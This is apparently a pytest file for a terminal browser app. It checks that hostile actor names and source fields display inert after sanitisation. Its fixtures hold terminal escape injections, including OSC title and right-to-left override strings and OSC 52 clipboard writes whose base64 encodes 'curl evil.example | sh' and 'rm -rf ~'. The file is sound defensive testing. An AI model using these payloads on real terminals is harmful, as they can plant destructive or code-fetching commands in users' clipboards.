"""Nothing another writer or a store holds acts on the terminal in the browser: an actor
name, a fact id, a source's fields, shown in any view or notice, pass the one text-safety
function (`textsafe.clean`). An OSC title, an OSC 52 clipboard write and a right-to-left
override each show as visible pictures."""

from __future__ import annotations

import pytest

from synapse_tui.core.base.clock import Clock, parse_time
from synapse_tui.core.review.triage import Triage
from synapse_tui.core.store.db import Store
from synapse_tui.ui.screens.detail import DetailScreen
from synapse_tui.ui.screens.session_log import SessionLogScreen
from tests.ui.helpers import NOW, harness, screen_text, settle

ATTACKS = {
    "OSC title": "\x1b]0;PWNED\x07",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "bidi override": "\u202e",
    "C1 OSC": "\x9d0;PWNED\x9c",
}
RAW = ("\x1b", "\x07", "\x9b", "\x9c", "\x9d", "\u202e")


def assert_inert(text: str) -> None:
    assert not any(ch in text for ch in RAW), ascii(text)


def hostile_writes(db, actor: str, move: str, fact_id: str) -> None:
    with Store.open(db) as other:
        Triage(other, Clock(parse_time(NOW)), actor=actor).apply(move, [fact_id])


async def push(pilot, screen) -> None:
    await settle(pilot)
    pilot.app.push_screen(screen)
    await settle(pilot)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
async def test_a_hostile_actor_is_inert_in_the_session_log_detail_and_notices(db, attack):
    app = harness(db)
    actor = f"agent:eve{attack}"
    async with app.run_test(size=(160, 40)) as pilot:
        await settle(pilot)
        hostile_writes(db, actor, "contradict", "f-pay-02")
        app.poll_store()
        await push(pilot, SessionLogScreen())
        text = screen_text(app)
        assert "agent:eve" in text and "by agent:eve" in text  # the header names the actor
        assert_inert(text)
        await pilot.press("u")  # the newest live action: the hostile one, undone with a notice
        await settle(pilot)
        notices = " ".join(f"{n.title} {n.message}" for n in app._notifications)  # noqa: SLF001
        assert_inert(notices)
        await push(pilot, DetailScreen("f-pay-02"))
        text = screen_text(app)
        assert "agent:eve" in text
        assert_inert(text)
    app.store.close()


def test_a_sources_name_in_the_calibration_groups_is_inert():
    """A fact's x-source (data) names a group of the calibration screen's table: shown as
    written, never as markup, its controls made visible."""
    from rich.console import Console

    from synapse_tui.ui.widgets.reliability import ReliabilityView

    name = "evil\x1b]52;c;cm0gLXJmIH4=\x07[link=https://evil.example]click[/link]"
    rows = [{"key": name, "n": 3, "mean_trust": 0.5, "rate": 0.6}]
    console = Console(record=True, width=200, force_terminal=False)
    console.print(ReliabilityView._features({"source": rows}))
    text = console.export_text()
    assert "evil" in text and "[link=https://evil.example]click[/link]" in text
    assert_inert(text)


async def test_the_browser_says_when_the_constants_are_not_the_defaults(db):
    """A config beside the store with constants of its own: every view's subtitle says so."""
    app = harness(db)
    async with app.run_test(size=(160, 40)) as pilot:
        await settle(pilot)
        assert "constants not the defaults" not in screen_text(app)
    app.store.close()
    cfg = db.with_name("memory.synapse.toml")
    cfg.write_text(cfg.read_text() + "\n[freshness]\nb0 = -1.25\n")
    app = harness(db)
    async with app.run_test(size=(160, 40)) as pilot:
        await settle(pilot)
        assert "constants not the defaults" in screen_text(app)
    app.store.close()
